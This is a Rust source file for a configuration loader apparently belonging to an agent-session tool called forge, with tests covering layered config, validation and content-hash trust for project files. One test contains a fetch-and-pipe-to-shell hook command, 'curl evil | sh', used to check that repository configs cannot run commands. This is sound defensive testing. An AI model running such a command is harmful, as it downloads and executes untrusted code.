                Some(name) => {
                    let section = name.trim_end_matches("Config").to_ascii_lowercase();
                    format!("a table like [{section}]")
                }
                None => e.to_owned(),
            },
        }
    };
    let found_words = |f: &str| -> String {
        let f = f.trim();
        let ticked = |s: &str| s.trim().trim_matches('`').to_owned();
        if let Some(v) = f.strip_prefix("string ") {
            format!("the text {v}")
        } else if let Some(v) = f
            .strip_prefix("integer ")
            .or_else(|| f.strip_prefix("floating point "))
        {
            format!("the number {}", ticked(v))
        } else if let Some(v) = f.strip_prefix("boolean ") {
            ticked(v)
        } else if f == "sequence" {
            "a list".to_owned()
        } else if f == "map" {
            "a table".to_owned()
        } else {
            f.to_owned()
        }
    };
    if let Some((head, key)) = body.rsplit_once(" in `")
        && let Some(key) = key.strip_suffix('`')
        && let Some((found, expected)) = head.split_once(", expected ")
    {
        return format!(
            "`{key}` must be {}, found {}",
            expected_words(expected),
            found_words(found)
        );
    }
    msg
}

/// A multi-line message (a TOML parse error) as one line: its non-empty lines,
/// trimmed, joined by spaces. It is not sanitised: what prints it cleans it.
fn join_lines(s: &str) -> String {
    s.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty())
        .collect::<Vec<_>>()
        .join(" ")
}

fn merge(
    into: &mut toml::Table,
    from: &toml::Table,
    source: &Source,
    prefix: &str,
    sources: &mut BTreeMap<String, Source>,
) {
    for (k, v) in from {
        let key = if prefix.is_empty() {
            k.clone()
        } else {
            format!("{prefix}.{k}")
        };
        match (into.get_mut(k), v) {
            (Some(toml::Value::Table(dst)), toml::Value::Table(src)) => {
                merge(dst, src, source, &key, sources);
            }
            _ => {
                if let toml::Value::Table(t) = v {
                    let mut fresh = toml::Table::new();
                    merge(&mut fresh, t, source, &key, sources);
                    into.insert(k.clone(), toml::Value::Table(fresh));
                } else {
                    into.insert(k.clone(), v.clone());
                    sources.insert(key, source.clone());
                }
            }
        }
    }
}

fn leaves(prefix: &str, v: &toml::Value, out: &mut Vec<String>) {
    match v {
        toml::Value::Table(t) => {
            for (k, v) in t {
                let key = if prefix.is_empty() {
                    k.clone()
                } else {
                    format!("{prefix}.{k}")
                };
                leaves(&key, v, out);
            }
        }
        _ => out.push(prefix.to_owned()),
    }
}

/// Loads the layered config for a project. Errors name the file and the key.
/// The agent is named by `$FORGE_AGENT`, else the tmux session (see
/// [`Env::agent_name`]); its `[agents.<name>]` tables win over both files.
pub fn load(paths: &Paths, env: &Env) -> Result<Loaded, ConfigError> {
    load_skipping(paths, env, &[], None)
}

/// [`load`] as agent `agent` (`forge config show --agent NAME`).
pub fn load_as(paths: &Paths, env: &Env, agent: &str) -> Result<Loaded, ConfigError> {
    load_skipping(paths, env, &[], Some(agent))
}

/// The config with every broken file left out (defaults and the layers that load),
/// plus the errors of the files that were left out. For `forge config show`, which
/// still shows the effective values when one file is broken.
pub fn load_lenient(paths: &Paths, env: &Env) -> (Loaded, Vec<ConfigError>) {
    let mut skip: Vec<PathBuf> = Vec::new();
    let mut errors = Vec::new();
    // At most one retry per layer (user, project), then the defaults alone.
    for _ in 0..3 {
        match load_skipping(paths, env, &skip, None) {
            Ok(l) => return (l, errors),
            Err(e) => {
                let path = e.path().to_path_buf();
                errors.push(e);
                if skip.contains(&path) {
                    break;
                }
                skip.push(path);
            }
        }
    }
    let both = [user_path(env), Some(paths.config())];
    skip.extend(both.into_iter().flatten());
    let loaded = load_skipping(paths, env, &skip, None).unwrap_or_else(|_| Loaded::defaults());
    (loaded, errors)
}

/// [`load`], leaving out the files in `skip` (they are listed as not loaded).
fn load_skipping(
    paths: &Paths,
    env: &Env,
    skip: &[PathBuf],
    agent: Option<&str>,
) -> Result<Loaded, ConfigError> {
    load_with(paths, env, skip, agent, None)
}

/// [`load`] as if the project file's content hashing to `trust_as` were trusted (for
/// `forge trust`, which checks every value of the file before it trusts it).
pub fn load_trusting(paths: &Paths, env: &Env, trust_as: &str) -> Result<Loaded, ConfigError> {
    load_with(paths, env, &[], None, Some(trust_as))
}

/// The trust record of the project at `paths` (one small read in your state
/// folder), judged against the content hash `sha256`.
fn judge_trust(paths: &Paths, env: &Env, sha256: &str, trust_as: Option<&str>) -> Trust {
    if trust_as == Some(sha256) {
        return Trust::Trusted {
            sha256: sha256.to_owned(),
            trusted_at: String::new(),
        };
    }
    let record = crate::store::registry::root_key(&paths.root)
        .and_then(|root| crate::store::trust::read(env, &root));
    Trust::judge(sha256, record.as_ref())
}

/// [`load_skipping`], with the content hash of a project file to take as trusted.
fn load_with(
    paths: &Paths,
    env: &Env,
    skip: &[PathBuf],
    agent: Option<&str>,
    trust_as: Option<&str>,
) -> Result<Loaded, ConfigError> {
    let defaults = toml::Value::try_from(Config::default()).map_err(|e| ConfigError::Invalid {
        path: PathBuf::from("<defaults>"),
        message: e.to_string(),
    })?;
    let mut sources = BTreeMap::new();
    let mut keys = Vec::new();
    leaves("", &defaults, &mut keys);
    for k in keys {
        sources.insert(k, Source::Default);
    }
    let mut merged = match defaults {
        toml::Value::Table(t) => t,
        _ => toml::Table::new(),
    };
    let mut files = Vec::new();
    let mut trust = Trust::Absent;
    let mut ignored = Vec::new();
    let mut layer_agents: Vec<(PathBuf, BTreeMap<String, toml::Table>)> = Vec::new();
    let layers = [
        user_path(env).map(Source::User),
        Some(Source::Project(paths.config())),
    ];
    for source in layers.into_iter().flatten() {
        let path = match &source {
            Source::User(p) | Source::Project(p) => p.clone(),
            Source::Default | Source::Agent(..) => continue,
        };
        if skip.contains(&path) {
            files.push((source.clone(), false));
            continue;
        }
        let follow = match source {
            Source::Project(_) => crate::store::safe::Follow::No,
            _ => crate::store::safe::Follow::Yes,
        };
        let parsed = parse_file(&path, follow)?;
        if let (Source::Project(_), Some((_, t))) = (&source, &parsed)
            && let Some(key) = commands_in(t)
        {
            return Err(ConfigError::Invalid {
                path: path.clone(),
                message: format!(
                    "`{key}` runs commands, so forge takes it only from your own config ({}), never from a project's .forge/config.toml, which a repository can ship: move it there",
                    user_path(env).map_or_else(
                        || "~/.config/forge/config.toml".to_owned(),
                        |p| p.display().to_string()
                    )
                ),
            });
        }
        files.push((source.clone(), parsed.is_some()));
        if let Some((text, mut table)) = parsed {
            if let Source::Project(_) = source {
                // The keys that act apply only from a file you trusted (this exact
                // content); the rest applies as it is.
                let mut rest = table.clone();
                let acting = take_acting(&mut rest);
                trust = if acting.is_empty() {
                    Trust::Inert
                } else {
                    judge_trust(
                        paths,
                        env,
                        &crate::model::setup::trust::content_hash(text.as_bytes()),
                        trust_as,
                    )
                };
                if !trust.applies() {
                    table = rest;
                    ignored = acting
                        .into_iter()
                        .map(|(key, value)| Ignored { key, value })
                        .collect();
                }
            }
            check_types(&path, &table)?;
            let (own, agents) = split_agents(&table);
            merge(&mut merged, &own, &source, "", &mut sources);
            layer_agents.push((path.clone(), agents));
        }
    }
    // Agent tables last (agent > project > user > defaults), the user file's then
    // the project's. The agent is only asked for when some file has agent tables.
    let mut defined: Vec<String> = layer_agents
        .iter()
        .flat_map(|(_, a)| a.keys().cloned())
        .collect();
    defined.sort();
    defined.dedup();
    let agent = if defined.is_empty() && agent.is_none() {
        None
    } else {
        agent.map(str::to_owned).or_else(|| env.agent_name())
    };
    if let Some(name) = &agent {
        for (path, agents) in &layer_agents {
            if let Some(t) = agents.get(name) {
                let source = Source::Agent(name.clone(), path.clone());
                merge(&mut merged, t, &source, "", &mut sources);
            }
        }
    }
    let config =
        Config::deserialize(toml::Value::Table(merged)).map_err(|e| ConfigError::Invalid {
            path: paths.config(),
            message: humanize_de_error(&e.to_string()),
        })?;
    validate(&config).map_err(|message| {
        // Name the file that set the offending value.
        let path = message
            .0
            .iter()
            .filter_map(|k| match sources.get(*k) {
                Some(Source::User(p) | Source::Project(p) | Source::Agent(_, p)) => Some(p.clone()),
                _ => None,
            })
            .next_back()
            .unwrap_or_else(|| PathBuf::from("<defaults>"));
        ConfigError::Invalid {
            path,
            message: message.1,
        }
    })?;
    Ok(Loaded {
        config,
        sources,
        files,
        agent,
        agents: defined,
        trust,
        ignored,
    })
}

type Invalid = (Vec<&'static str>, String);

/// `Ok` when `ok`, else the error for `key`: "`name` must be `allowed`, found
/// `found`" (`name` is the key as the message shows it, usually `key` itself).
fn require(
    ok: bool,
    key: &'static str,
    name: &str,
    allowed: &str,
    found: impl std::fmt::Display,
) -> Result<(), Invalid> {
    if ok {
        Ok(())
    } else {
        Err((
            vec![key],
            format!("`{name}` must be {allowed}, found {found}"),
        ))
    }
}

/// Checks values that types alone cannot: ordered levels, ranges, known segments.
fn validate(c: &Config) -> Result<(), Invalid> {
    let x = &c.context;
    for (key, v) in [
        ("context.warn", x.warn),
        ("context.critical", x.critical),
        ("context.emergency", x.emergency),
        ("context.handoff_threshold", x.handoff_threshold),
    ] {
        require((0.0..=100.0).contains(&v), key, key, "between 0 and 100", v)?;
    }
    let mut broken = Vec::new();
    let mut keys = Vec::new();
    if x.warn >= x.critical {
        broken.push(format!(
            "warn ({}) must be below critical ({})",
            x.warn, x.critical
        ));
        keys.extend(["context.warn", "context.critical"]);
    }
    if x.critical >= x.emergency {
        broken.push(format!(
            "critical ({}) must be below emergency ({})",
            x.critical, x.emergency
        ));
        keys.extend(["context.critical", "context.emergency"]);
    }
    if !broken.is_empty() {
        return Err((
            keys,
            format!("context levels must rise: {}", broken.join(", and ")),
        ));
    }
    let key = "statusline.bar_width";
    let width = c.statusline.bar_width;
    require((1..=100).contains(&width), key, key, "1 to 100", width)?;
    for (key, segments) in [
        ("statusline.segments", &c.statusline.segments),
        ("statusline.wrap_segments", &c.statusline.wrap_segments),
    ] {
        if let Some(bad) = segments.iter().find(|s| !SEGMENTS.contains(&s.as_str())) {
            return Err((
                vec![key],
                format!(
                    "`{key}` has unknown segment \"{bad}\" (known: {})",
                    SEGMENTS.join(", ")
                ),
            ));
        }
    }
    let key = "statusline.wrap_position";
    require(
        WRAP_POSITIONS.contains(&c.statusline.wrap_position.as_str()),
        key,
        key,
        "\"after\", \"before\" or \"line\"",
        format_args!("\"{}\"", c.statusline.wrap_position),
    )?;
    for (key, actions) in [
        ("ladder.L1", &c.ladder.l1),
        ("ladder.L2", &c.ladder.l2),
        ("ladder.L3", &c.ladder.l3),
    ] {
        if let Some(bad) = actions
            .iter()
            .find(|a| !LADDER_ACTIONS.contains(&a.as_str()))
        {
            return Err((
                vec![key],
                format!(
                    "`{key}` has unknown action \"{bad}\" (known: {})",
                    LADDER_ACTIONS.join(", ")
                ),
            ));
        }
    }
    let r = &c.relay;
    let key = "relay.threshold";
    require(
        (1.0..=100.0).contains(&r.threshold),
        key,
        key,
        "between 1 and 100",
        r.threshold,
    )?;
    let key = "relay.max_handoffs";
    require(r.max_handoffs <= 20, key, key, "0 to 20", r.max_handoffs)?;
    let key = "relay.grace_secs";
    require(
        (1..=120).contains(&r.grace_secs),
        key,
        key,
        "1 to 120",
        r.grace_secs,
    )?;
    let n = &c.notify;
    if let Some(bad) = n
        .events
        .iter()
        .find(|e| !NOTIFY_EVENTS.contains(&e.as_str()))
    {
        return Err((
            vec!["notify.events"],
            format!(
                "`notify.events` has unknown event \"{bad}\" (known: {})",
                NOTIFY_EVENTS.join(", ")
            ),
        ));
    }
    let key = "notify.mode";
    require(
        matches!(n.mode.as_str(), "async" | "bidirectional"),
        key,
        key,
        "\"async\" or \"bidirectional\"",
        format_args!("\"{}\"", n.mode),
    )?;
    let key = "notify.timeout_secs";
    require(
        (1..=600).contains(&n.timeout_secs),
        key,
        key,
        "1 to 600",
        n.timeout_secs,
    )?;
    let key = "notify.pane_capture_lines";
    require(
        n.pane_capture_lines <= 500,
        key,
        key,
        "0 to 500",
        n.pane_capture_lines,
    )?;
    if n.command.first().is_some_and(|p| p.trim().is_empty()) {
        return Err((
            vec!["notify.command"],
            "`notify.command` must start with a program".to_owned(),
        ));
    }
    for (list, hooks) in [
        ("on_threshold", &c.on_threshold),
        ("on_session_start", &c.on_session_start),
    ] {
        for h in hooks {
            let key: &'static str = if list == "on_threshold" {
                "on_threshold"
            } else {
                "on_session_start"
            };
            if h.command.trim().is_empty() {
                return Err((vec![key], format!("`{list}.command` must name a command")));
            }
            require(
                (1..=600).contains(&h.timeout_secs),
                key,
                &format!("{list}.timeout_secs"),
                "1 to 600",
                h.timeout_secs,
            )?;
            if list == "on_session_start" && (h.threshold.is_some() || h.replace_handoff) {
                return Err((
                    vec![key],
                    "`threshold` and `replace_handoff` belong to [[on_threshold]], not [[on_session_start]]".to_owned(),
                ));
            }
            if let Some(t) = h.threshold {
                require(
                    (1.0..=100.0).contains(&t),
                    key,
                    &format!("{list}.threshold"),
                    "between 1 and 100",
                    t,
                )?;
            }
        }
    }
    for (key, text) in [
        ("resume.max_age", &c.resume.max_age),
        ("attention.stale_after", &c.attention.stale_after),
        ("handoffs.older_than", &c.handoffs.older_than),
    ] {
        require(
            crate::model::time::parse_duration(text).is_some(),
            key,
            key,
            "a duration like \"30m\", \"12h\" or \"2d\"",
            format_args!("\"{text}\""),
        )?;
    }
    let key = "resume.auto";
    require(
        ["recent", "always", "never"].contains(&c.resume.auto.as_str()),
        key,
        key,
        "\"recent\", \"always\" or \"never\"",
        format_args!("\"{}\"", c.resume.auto),
    )?;
    let key = "hooks.dirty_warning";
    require(
        crate::model::session::dirty::MODES.contains(&c.hooks.dirty_warning.as_str()),
        key,
        key,
        "\"grew\", \"changed\" or \"off\"",
        format_args!("\"{}\"", c.hooks.dirty_warning),
    )?;
    let key = "learn.memory_max_lines";
    let lines = c.learn.memory_max_lines;
    require(lines >= 10, key, key, "10 or more", lines)?;
    Ok(())
}

/// For hooks and the statusline: the config, or the defaults when it is broken (the
/// error is logged to `.forge/logs/errors.log`, never shown in the session).
pub fn load_or_default(paths: &Paths, env: &Env) -> Config {
    match load(paths, env) {
        Ok(l) => l.config,
        Err(e) => {
            if paths.logs().is_dir() {
                crate::store::log_error(paths, "config", &e.to_string());
            }
            Config::default()
        }
    }
}

/// [`load_or_default`] for the hooks and the status line, which also say — once per
/// content of the project file, not on every call — that its acting keys were left
/// out because you have not trusted it: the outcome for the call's event line (`None`
/// when there is nothing new to say). The "said" mark is kept in your state folder
/// beside the trust records (one small read per call, and only for a project file
/// that has acting keys).
pub fn load_noting(paths: &Paths, env: &Env) -> (Config, Option<Outcome>) {
    match load(paths, env) {
        Ok(l) => {
            let notice = notice_ignored(paths, env, &l);
            (l.config, notice)
        }
        Err(_) => (load_or_default(paths, env), None),
    }
}

/// The [`Outcome::ConfigIgnored`] of `l`, when it is news (see [`load_noting`]).
fn notice_ignored(paths: &Paths, env: &Env, l: &Loaded) -> Option<Outcome> {
    let Trust::Untrusted { sha256, .. } = &l.trust else {
        return None;
    };
    let root = crate::store::registry::root_key(&paths.root)?;
    if crate::store::trust::noticed(env, &root, sha256) {
        return None;
    }
    // Said only when the mark is kept: else every status-line tick would say it.
    crate::store::trust::mark_noticed(env, &root, sha256).ok()?;
    Some(Outcome::ConfigIgnored {
        file: paths.config().display().to_string(),
        keys: l.ignored.iter().map(|i| i.key.clone()).collect(),
        why: l.trust.why_ignored().to_owned(),
    })
}

#[cfg(test)]
mod tests {
    /// validate()'s messages for out-of-range values, word for word.
    #[test]
    fn range_messages_name_the_key_the_range_and_the_value() {
        let msg = |edit: &dyn Fn(&mut Config)| {
            let mut c = Config::default();
            edit(&mut c);
            validate(&c).unwrap_err()
        };
        assert_eq!(
            msg(&|c| c.context.warn = 150.0),
            (
                vec!["context.warn"],
                "`context.warn` must be between 0 and 100, found 150".to_owned()
            )
        );
        assert_eq!(
            msg(&|c| c.statusline.bar_width = 0).1,
            "`statusline.bar_width` must be 1 to 100, found 0"
        );
        assert_eq!(
            msg(&|c| c.relay.threshold = 0.5).1,
            "`relay.threshold` must be between 1 and 100, found 0.5"
        );
        assert_eq!(
            msg(&|c| c.relay.max_handoffs = 21).1,
            "`relay.max_handoffs` must be 0 to 20, found 21"
        );
        assert_eq!(
            msg(&|c| c.relay.grace_secs = 0).1,
            "`relay.grace_secs` must be 1 to 120, found 0"
        );
        assert_eq!(
            msg(&|c| c.notify.mode = "sync".into()).1,
            "`notify.mode` must be \"async\" or \"bidirectional\", found \"sync\""
        );
        assert_eq!(
            msg(&|c| c.notify.timeout_secs = 601).1,
            "`notify.timeout_secs` must be 1 to 600, found 601"
        );
        assert_eq!(
            msg(&|c| c.notify.pane_capture_lines = 501).1,
            "`notify.pane_capture_lines` must be 0 to 500, found 501"
        );
        assert_eq!(
            msg(&|c| c.resume.max_age = "soon".into()),
            (
                vec!["resume.max_age"],
                "`resume.max_age` must be a duration like \"30m\", \"12h\" or \"2d\", found \"soon\""
                    .to_owned()
            )
        );
        assert_eq!(
            msg(&|c| c.resume.auto = "maybe".into()).1,
            "`resume.auto` must be \"recent\", \"always\" or \"never\", found \"maybe\""
        );
        assert_eq!(
            msg(&|c| c.hooks.dirty_warning = "always".into()).1,
            "`hooks.dirty_warning` must be \"grew\", \"changed\" or \"off\", found \"always\""
        );
        assert_eq!(
            msg(&|c| c.learn.memory_max_lines = 9).1,
            "`learn.memory_max_lines` must be 10 or more, found 9"
        );
        let hook = |timeout_secs, threshold| UserHook {
            command: "true".into(),
            timeout_secs,
            threshold,
            replace_handoff: false,
        };
        assert_eq!(
            msg(&|c| c.on_session_start = vec![hook(0, None)]),
            (
                vec!["on_session_start"],
                "`on_session_start.timeout_secs` must be 1 to 600, found 0".to_owned()
            )
        );
        assert_eq!(
            msg(&|c| c.on_threshold = vec![hook(10, Some(101.0))]),
            (
                vec!["on_threshold"],
                "`on_threshold.threshold` must be between 1 and 100, found 101".to_owned()
            )
        );
    }

    use super::*;

    fn setup() -> (tempfile::TempDir, Paths, Env) {
        let t = tempfile::tempdir().unwrap();
        let root = t.path().join("proj");
        std::fs::create_dir_all(root.join(".forge")).unwrap();
        let mut env = Env::for_test(&t.path().join("home"), &root);
        env.xdg_config_home = Some(t.path().join("xdg"));
        (t, Paths::new(root), env)
    }

    #[test]
    fn defaults_when_no_files() {
        let (_t, p, env) = setup();
        let l = load(&p, &env).unwrap();
        assert_eq!(l.config, Config::default());
        assert_eq!(l.sources.get("context.warn"), Some(&Source::Default));
    }

    #[test]
    fn project_over_user_over_default_per_field() {
        let (t, p, env) = setup();
        let user = t.path().join("xdg/forge/config.toml");
        std::fs::create_dir_all(user.parent().unwrap()).unwrap();
        std::fs::write(&user, "[context]\nwarn = 60\ncritical = 80\n").unwrap();
        std::fs::write(p.config(), "[context]\nwarn = 65\n").unwrap();
        let l = load(&p, &env).unwrap();
        assert_eq!(l.config.context.warn, 65.0);
        assert_eq!(l.config.context.critical, 80.0);
        assert_eq!(l.config.context.emergency, 95.0);
        assert_eq!(l.sources["context.warn"], Source::Project(p.config()));
        assert_eq!(l.sources["context.critical"], Source::User(user));
        assert_eq!(l.sources["context.emergency"], Source::Default);
    }

    #[test]
    fn an_agent_table_wins_over_project_over_user_per_field() {
        let (t, p, mut env) = setup();
        let user = t.path().join("xdg/forge/config.toml");
        std::fs::create_dir_all(user.parent().unwrap()).unwrap();
        std::fs::write(
            &user,
            "[context]\nwarn = 60\ncritical = 80\n\
             [agents.builder.context]\nhandoff_threshold = 55\ncritical = 75\n",
        )
        .unwrap();
        std::fs::write(
            p.config(),
            "[context]\nwarn = 65\n[agents.builder.context]\ncritical = 78\n\
             [agents.reviewer.attention]\nstale_after = \"15m\"\n",
        )
        .unwrap();
        // stale_after acts (other projects' views show it): the file is trusted.
        trust_file(&p, &env);
        // No agent named: the tables are checked, not applied.
        let l = load(&p, &env).unwrap();
        assert_eq!(l.agent, None);
        assert_eq!(l.agents, ["builder", "reviewer"]);
        assert_eq!(l.config.context.critical, 80.0);
        // $FORGE_AGENT names it: agent > project > user > defaults, key by key; the
        // project's agent table over the user's.
        env.forge_agent = Some("builder".into());
        let l = load(&p, &env).unwrap();
        assert_eq!(l.agent.as_deref(), Some("builder"));
        assert_eq!(l.config.context.warn, 65.0);
        assert_eq!(l.config.context.critical, 78.0);
        assert_eq!(l.config.context.handoff_threshold, 55.0);
        assert_eq!(
            l.sources["context.critical"],
            Source::Agent("builder".into(), p.config())
        );
        assert_eq!(
            l.sources["context.handoff_threshold"],
            Source::Agent("builder".into(), user.clone())
        );
        assert_eq!(l.sources["context.warn"], Source::Project(p.config()));
        // Another agent gets only its own table.
        let l = load_as(&p, &env, "reviewer").unwrap();
        assert_eq!(l.config.context.critical, 80.0);
        assert_eq!(l.config.attention.stale_after, "15m");
        // An agent without a table: the files as they are.
        let l = load_as(&p, &env, "nobody").unwrap();
        assert_eq!(l.config.context.handoff_threshold, 70.0);
    }

    #[test]
    fn every_agent_table_is_checked_strictly() {
        let (_t, p, env) = setup();
        for (text, want) in [
            (
                "[agents.builder.context]\nwarm = 1\n",
                "unknown key `agents.builder.context.warm`",
            ),
            (
                "[agents.builder.contxt]\nwarn = 1\n",
                "unknown key `agents.builder.contxt`",
            ),
            (
                "[agents.builder.context]\nwarn = \"high\"\n",
                "in [agents.builder]: `context.warn` must be a number",
            ),
            ("agents = 3\n", "`agents` must hold tables"),
            (
                "[agents]\nbuilder = 3\n",
                "`agents.builder` must be a table",
            ),
            (
                "[agents.a.agents.b.context]\nwarn = 1\n",
                "agent tables do not nest",
            ),
        ] {
            std::fs::write(p.config(), text).unwrap();
            let e = load(&p, &env).unwrap_err().to_string();
            assert!(e.contains(want), "{text:?}: {e}");
            assert!(e.contains("config.toml"), "names the file: {e}");
        }
        // Values checked after merging name the agent's file too.
        std::fs::write(p.config(), "[agents.builder.context]\nwarn = 99\n").unwrap();
        let e = load_as(&p, &env, "builder").unwrap_err().to_string();
        assert!(e.contains("context levels must rise"), "{e}");
    }

    #[test]
    fn the_shipped_example_config_is_valid_for_every_agent() {
        let (_t, p, env) = setup();
        std::fs::write(p.config(), include_str!("../assets/examples/config.toml")).unwrap();
        let l = load(&p, &env).unwrap();
        assert_eq!(l.agents, ["builder", "planner", "reviewer"]);
        let builder = load_as(&p, &env, "builder").unwrap().config;
        assert_eq!(builder.context.handoff_threshold, 60.0);
        assert_eq!(builder.resume.max_age, "4h");
        let planner = load_as(&p, &env, "planner").unwrap().config;
        assert_eq!(planner.resume.auto, "never");
        let reviewer = load_as(&p, &env, "reviewer").unwrap().config;
        assert!(reviewer.statusline.segments.contains(&"cost".to_owned()));
        assert_eq!(reviewer.context.handoff_threshold, 70.0);
        // As a project's file, the keys it marks "acts" wait for trust, and only those.
        let text = include_str!("../assets/examples/config.toml");
        let marked = text.lines().filter(|l| l.contains("# acts")).count();
        assert_eq!(l.ignored.len(), marked, "{:?}", l.ignored);
        let sha = crate::model::setup::trust::content_hash(text.as_bytes());
        assert!(load_trusting(&p, &env, &sha).unwrap().ignored.is_empty());
        trust_file(&p, &env);
        let reviewer = load_as(&p, &env, "reviewer").unwrap().config;
        assert_eq!(reviewer.attention.stale_after, "15m");
    }

    #[test]
    fn user_hooks_come_only_from_the_users_own_file() {
        let (t, p, env) = setup();
        let user = t.path().join("xdg/forge/config.toml");
        std::fs::create_dir_all(user.parent().unwrap()).unwrap();
        std::fs::write(
            &user,
            "[[on_threshold]]\ncommand = \"notify-send hi\"\nthreshold = 80\n\
             [[on_threshold]]\ncommand = \"true\"\ntimeout_secs = 3\nreplace_handoff = true\n\
             [[on_session_start]]\ncommand = \"echo hi\"\n",
        )
        .unwrap();
        let l = load(&p, &env).unwrap();
        let hooks: Vec<(usize, f64, u64)> = l
            .config
            .threshold_hooks()
            .map(|(i, h, t)| (i, t, h.timeout_secs))
            .collect();
        assert_eq!(hooks, [(0, 80.0, 10), (1, 70.0, 3)]);
        assert!(l.config.on_threshold[1].replace_handoff);
        assert_eq!(l.config.on_session_start[0].command, "echo hi");
        // A project file (which a repository can ship) may not run commands, not even
        // in an agent table.
        for text in [
            "[[on_session_start]]\ncommand = \"curl evil | sh\"\n",
            "[[agents.builder.on_threshold]]\ncommand = \"x\"\n",
        ] {
            std::fs::write(p.config(), text).unwrap();
            let e = load(&p, &env).unwrap_err().to_string();
            assert!(e.contains("runs commands"), "{e}");
            assert!(e.contains(&p.config().display().to_string()), "{e}");
        }
        std::fs::remove_file(p.config()).unwrap();
        // Checked like the rest.
        for (text, want) in [
            (
                "[[on_threshold]]\ncommand = \"x\"\ntimeout = 3\n",
                "unknown key `on_threshold.timeout`",
            ),
            (
                "on_threshold = 3\n",
                "must be a list of tables like [[on_threshold]]",
            ),
            ("[[on_threshold]]\ncommand = \" \"\n", "must name a command"),
            (
                "[[on_threshold]]\ncommand = \"x\"\ntimeout_secs = 0\n",
                "1 to 600",
            ),
            (
                "[[on_session_start]]\ncommand = \"x\"\nthreshold = 50\n",
                "belong to [[on_threshold]]",
            ),
        ] {
            std::fs::write(&user, text).unwrap();
            let e = load(&p, &env).unwrap_err().to_string();
            assert!(e.contains(want), "{text:?}: {e}");
        }
    }

    #[test]
    fn ladder_and_notify_values_are_checked() {
        let (t, p, env) = setup();
        // In your own file (a project file's acting keys apply only once trusted).
        let user = t.path().join("xdg/forge/config.toml");
        std::fs::create_dir_all(user.parent().unwrap()).unwrap();
        for (text, want) in [
            (
                "[ladder]\nL2 = [\"nap\"]\n",
                "`ladder.L2` has unknown action \"nap\"",
            ),
            (
                "[notify]\nevents = [\"lunch\"]\n",
                "`notify.events` has unknown event \"lunch\"",
            ),
            (
                "[notify]\nmode = \"sync\"\n",
                "`notify.mode` must be \"async\" or \"bidirectional\"",
            ),
        ] {
            std::fs::write(&user, text).unwrap();
            let e = load(&p, &env).unwrap_err().to_string();
            assert!(e.contains(want), "{text:?}: {e}");
            assert!(e.contains(&user.display().to_string()), "{e}");
        }
        std::fs::write(
            &user,
            "[ladder]\nL1 = []\nL3 = [\"wip_commit\", \"alert\"]\n",
        )
        .unwrap();
        let l = load(&p, &env).unwrap();
        assert!(l.config.ladder.l1.is_empty());
        assert_eq!(l.config.ladder.l2, ["alert"]);
    }

    /// Trusts the project file's current content, as `forge trust` does.
    fn trust_file(p: &Paths, env: &Env) {
        let text = std::fs::read(p.config()).unwrap();
        let root = crate::store::registry::root_key(&p.root).unwrap();
        crate::store::trust::write(
            env,
            &crate::model::setup::trust::Record {
                version: crate::model::setup::trust::VERSION,
                project: root,
                config: p.config().display().to_string(),
                sha256: crate::model::setup::trust::content_hash(&text),
                trusted_at: "2026-11-26T10:00:00Z".into(),
            },
        )
        .unwrap();
    }

    #[test]
    fn a_project_files_acting_keys_apply_only_while_its_content_is_trusted() {
        let (_t, p, env) = setup();
        let text = "[context]\nwarn = 60\n[statusline]\nbar_width = 20\n\
                    [ladder]\nL1 = [\"wip_commit\"]\nprotected_branches = []\n\
                    [notify]\nmode = \"bidirectional\"\ntimeout_secs = 600\nstdin = true\n\
                    pane_capture_lines = 500\n\
                    [attention]\nstale_after = \"365d\"\n\
                    [handoffs]\nauto_prune = true\nkeep = 0\n\
                    [relay]\nthreshold = 5\n\
                    [agents.builder.ladder]\nL2 = [\"wip_commit\"]\n";
        std::fs::write(p.config(), text).unwrap();
        // Untrusted: what it shows applies, what acts does not (no error either).
        let l = load(&p, &env).unwrap();
        assert_eq!(l.config.context.warn, 60.0);
        assert_eq!(l.config.statusline.bar_width, 20);
        let d = Config::default();
        assert_eq!(l.config.ladder, d.ladder);
        assert_eq!(l.config.notify, d.notify);
        assert_eq!(l.config.attention, d.attention);
        assert_eq!(l.config.handoffs, d.handoffs);
        assert_eq!(l.config.relay, d.relay);
        assert_eq!(l.sources["ladder.L1"], Source::Default);
        let keys: Vec<&str> = l.ignored.iter().map(|i| i.key.as_str()).collect();
        assert_eq!(
            keys,
            [
                "agents.builder.ladder.L2",
                "attention.stale_after",
                "handoffs.auto_prune",
                "handoffs.keep",
                "ladder.L1",
                "ladder.protected_branches",
                "notify.mode",
                "notify.pane_capture_lines",
                "notify.stdin",
                "notify.timeout_secs",
                "relay.threshold",
            ]
        );
        assert!(matches!(l.trust, Trust::Untrusted { changed: false, .. }));
        assert!(
            l.ignored_summary(&p.root)
                .unwrap()
                .contains("forge trust --project")
        );
        let builder = load_as(&p, &env, "builder").unwrap().config;
        assert_eq!(builder.ladder.l2, d.ladder.l2);
        // Trusted: everything applies.
        trust_file(&p, &env);
        let l = load(&p, &env).unwrap();
        assert!(l.ignored.is_empty());
        assert!(matches!(l.trust, Trust::Trusted { .. }));
        assert_eq!(l.config.ladder.l1, ["wip_commit"]);
        assert!(l.config.ladder.protected_branches.is_empty());
        assert_eq!(l.config.notify.mode, "bidirectional");
        assert_eq!(l.config.attention.stale_after, "365d");
        assert_eq!(l.config.relay.threshold, 5.0);
        assert_eq!(l.sources["ladder.L1"], Source::Project(p.config()));
        assert_eq!(
            load_as(&p, &env, "builder").unwrap().config.ladder.l2,
            ["wip_commit"]
        );
        // An edit (one byte) revokes it.
        std::fs::write(p.config(), format!("{text}\n")).unwrap();
        let l = load(&p, &env).unwrap();
        assert_eq!(l.config.ladder, d.ladder);
        assert!(matches!(l.trust, Trust::Untrusted { changed: true, .. }));
        assert!(l.ignored_summary(&p.root).unwrap().contains("changed"));
        // A file with nothing that acts needs no trust.
        std::fs::write(p.config(), "[context]\nwarn = 60\n").unwrap();
        assert_eq!(load(&p, &env).unwrap().trust, Trust::Inert);
        std::fs::remove_file(p.config()).unwrap();
        assert_eq!(load(&p, &env).unwrap().trust, Trust::Absent);
    }

    #[test]
    fn untrusted_acting_values_are_no_error_but_are_checked_before_trusting() {
        let (_t, p, env) = setup();
        let text = "[notify]\nmode = \"sync\"\n[ladder]\nL1 = 3\n";
        std::fs::write(p.config(), text).unwrap();
        let l = load(&p, &env).unwrap();
        assert_eq!(l.ignored.len(), 2);
        let sha = crate::model::setup::trust::content_hash(text.as_bytes());
        let e = load_trusting(&p, &env, &sha).unwrap_err().to_string();
